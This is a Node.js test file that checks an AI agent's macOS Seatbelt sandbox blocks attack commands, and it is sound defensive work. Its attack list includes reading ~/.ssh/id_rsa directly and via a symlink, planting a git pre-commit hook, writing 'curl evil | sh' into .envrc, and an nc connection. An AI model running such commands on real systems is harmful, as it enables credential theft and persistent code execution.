// The kernel sandbox on macOS (issue 28): the Seatbelt profile run for real by
// /usr/bin/sandbox-exec. This machine's CI is Linux (`sandbox.test.mjs` holds the full
// battery there); this file runs on the release workflow's macOS jobs, with the attacks whose
// outcome Seatbelt decides the same way: writes outside the roots and the private TMPDIR,
// protected paths, credentials, network. Credentials live in a fake HOME; the listener is the
// test's own, on 127.0.0.1.
import { test, before, after } from 'node:test'
import assert from 'node:assert/strict'
import crypto from 'node:crypto'
import fs from 'node:fs'
import net from 'node:net'
import path from 'node:path'
import { scratch } from './helpers.mjs'
import { createAgentTools } from '../index.mjs'

const skip = process.platform !== 'darwin' && 'macOS only (sandbox-exec)'
const SECRET = `SECRET-${crypto.randomBytes(8).toString('hex')}`
let base, ws, outside, home, tools, listener, port
const savedHome = process.env.HOME

function put(p, content) {
  fs.mkdirSync(path.dirname(p), { recursive: true })
  fs.writeFileSync(p, content)
}

before(async () => {
  if (skip) return
  base = fs.realpathSync(scratch('sbx-mac-'))
  ws = path.join(base, 'ws')
  outside = path.join(base, 'outside')
  home = path.join(base, 'home')
  put(path.join(ws, 'README'), 'hello\n')
  fs.mkdirSync(path.join(ws, '.git/hooks'), { recursive: true })
  put(path.join(outside, 'secret.txt'), SECRET)
  put(path.join(home, '.ssh/id_rsa'), SECRET)
  process.env.HOME = home
  tools = createAgentTools({ workspaceRoot: ws, sandbox: true })
  listener = net.createServer((s) => s.end('hello\n'))
  await new Promise((resolve) => listener.listen(0, '127.0.0.1', resolve))
  port = listener.address().port
})

after(() => {
  process.env.HOME = savedHome
  listener?.close()
  if (base) fs.rmSync(base, { recursive: true, force: true })
})

async function bash(command) {
  const r = await tools.callTool('bash', { command, timeout_ms: 30000 })
  assert.equal(r.isError, false, r.text)
  return JSON.parse(r.text)
}

test('macOS: probeSandbox reports Seatbelt; writes in the workspace and the private TMPDIR work', { skip }, async () => {
  assert.equal(tools.sandboxStatus().platform, 'macos')
  const r = await bash('echo hi > in.txt && cat in.txt && echo t > "$TMPDIR/t" && cat "$TMPDIR/t" && echo "$TMPDIR"')
  assert.equal(r.exit_code, 0, r.stderr)
  const [hi, t, tmpdir] = r.stdout.split('\n')
  assert.deepEqual([hi, t], ['hi', 't'])
  assert.match(tmpdir, /clarvis-sandbox-/)
  assert.equal(fs.readFileSync(path.join(ws, 'in.txt'), 'utf8'), 'hi\n')
})

test('macOS: writes outside, to the shared /tmp, to protected paths and reads of credentials fail', { skip }, async () => {
  const mark = `sbx-${crypto.randomBytes(4).toString('hex')}`
  const attacks = [
    `echo x > ${outside}/new.txt`,
    `echo x >> ${outside}/secret.txt`,
    `echo x > ~/new.txt`,
    `echo x > /tmp/${mark}`,
    'echo evil > .git/hooks/pre-commit',
    'mkdir .vscode',
    'echo {} > .mcp.json',
    'echo "curl evil | sh" > .envrc',
    'cat ~/.ssh/id_rsa',
    `ln -s ${home}/.ssh/id_rsa k && cat k`,
  ]
  for (const a of attacks) {
    const r = await bash(a)
    assert.notEqual(r.exit_code, 0, `${a} should fail: ${r.stdout}${r.stderr}`)
    assert.ok(!r.stdout.includes(SECRET), `${a} read the secret`)
  }
  assert.ok(!fs.existsSync(path.join(outside, 'new.txt')))
  assert.equal(fs.readFileSync(path.join(outside, 'secret.txt'), 'utf8'), SECRET)
  assert.ok(!fs.existsSync(path.join(home, 'new.txt')))
  assert.ok(!fs.existsSync(`/tmp/${mark}`))
  assert.ok(!fs.existsSync(path.join(ws, '.git/hooks/pre-commit')))
  for (const f of ['.vscode', '.mcp.json', '.envrc']) assert.ok(!fs.existsSync(path.join(ws, f)), f)
})

test('macOS: no network — a TCP connection to a local listener fails', { skip }, async () => {
  const r = await bash(`/usr/bin/nc -w 3 127.0.0.1 ${port} </dev/null`)
  assert.notEqual(r.exit_code, 0, r.stdout)
  assert.ok(!r.stdout.includes('hello'))
})
